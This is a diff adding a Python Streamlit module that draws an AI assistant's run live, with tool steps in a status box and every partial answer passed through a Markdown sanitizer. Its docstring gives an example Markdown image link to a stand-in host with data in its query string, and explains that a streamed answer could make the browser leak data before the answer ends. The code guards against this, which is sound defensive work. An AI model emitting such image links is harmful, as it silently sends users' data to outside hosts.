@@ -1,0 +1,108 @@
+"""One run of the assistant, drawn while it happens: tool steps in an st.status box, the answer
+redrawn safely at every token.
+
+Streamlit's st.write_stream would render the concatenated tokens as they are; a model that
+streams `![x](http://host/p.png?e=...)` would make the browser fetch that URL before the
+answer even ends. So the answer so far goes through safe_markdown at every redraw: a
+half-written link or image is inert at every step, not only in the final text."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterable, Iterator
+from typing import Any
+
+import streamlit as st
+
+from agent.events import (
+    ApprovalRequested,
+    AssistantMessage,
+    ErrorEvent,
+    Event,
+    TokenChunk,
+    ToolFinished,
+    ToolStarted,
+)
+from ui.chat_format import LineJoiner, step_line, steps_label, tidy
+from ui.safe_text import literal, safe_markdown
+
+Chunk = str | Callable[[], None]
+
+
+def write_safe_stream(chunks: Iterable[Chunk]) -> str:
+    """st.write_stream's contract (text chunks make one Markdown block until a callable ends
+    it), but every redraw is the safe Markdown of the whole text so far. Returns the raw text
+    of the last block."""
+    box: Any = None
+    text = ""
+    for chunk in chunks:
+        if callable(chunk):
+            box, text = None, ""  # the block keeps its last (safe) drawing
+            chunk()
+            continue
+        if not chunk:
+            continue
+        if box is None:
+            box = st.empty()
+        text += chunk
+        box.markdown(safe_markdown(text))
+    return text
+
+
+class LiveRun:
+    """Turns the runtime's events into what write_safe_stream draws: answer text as strings
+    (Markdown, not yet safe), tool steps and problems as callables (the text block ends, then
+    they are called)."""
+
+    def __init__(self) -> None:
+        self.steps: Any = None  # the st.status box, made at the first step
+        self.lines: dict[str, Any] = {}  # call id -> its line in the box
+        self.names: list[str] = []  # the tools, one per call
+        self.waiting = False
+        self.problems: set[str] = set()
+        self.joiner = LineJoiner()
+        self.streamed = ""  # text of the answer being streamed
+        self.gap = False  # a finished answer before: the next one starts a new paragraph
+
+    def _step(self, call_id: str, name: str, line: str) -> None:
+        if self.steps is None:
+            self.steps = st.status(steps_label([], running=True), expanded=True)
+        if call_id not in self.lines:
+            self.names.append(name)
+            self.lines[call_id] = self.steps.empty()
+        self.lines[call_id].markdown(line)
+
+    def _problem(self, message: str) -> None:
+        st.warning(literal(message), icon=":material/warning:")
+
+    def events(self, events: Iterator[Event]) -> Iterator[Chunk]:
+        for event in events:
+            if isinstance(event, TokenChunk):
+                if self.gap:
+                    self.gap = False
+                    self.joiner.reset()
+                    yield "\n\n"
+                self.streamed += event.text
+                yield self.joiner.feed(event.text)
+            elif isinstance(event, AssistantMessage):
+                if not self.streamed.strip() and event.text not in self.problems:
+                    yield tidy(event.text)  # a model that did not stream, or a fixed message
+                self.streamed, self.gap = "", True
+            elif isinstance(event, ToolStarted):
+                line = step_line(event.name, "running", args=event.args)
+                yield lambda e=event, line=line: self._step(e.call_id, e.name, line)
+            elif isinstance(event, ToolFinished):
+                line = step_line(event.name, event.status, content=event.content)
+                yield lambda e=event, line=line: self._step(e.call_id, e.name, line)
+            elif isinstance(event, ApprovalRequested):
+                self.waiting = True
+                r = event.request
+                line = step_line(r.tool, "awaiting_approval", args=r.args)
+                yield lambda r=r, line=line: self._step(r.tool_call_id, r.tool, line)
+            elif isinstance(event, ErrorEvent):
+                self.problems.add(event.message)
+                yield lambda e=event: self._problem(e.message)
+
+    def close(self) -> None:
+        if self.steps is not None:
+            label = steps_label(self.names, waiting=self.waiting)
+            self.steps.update(label=label, state="complete", expanded=False)
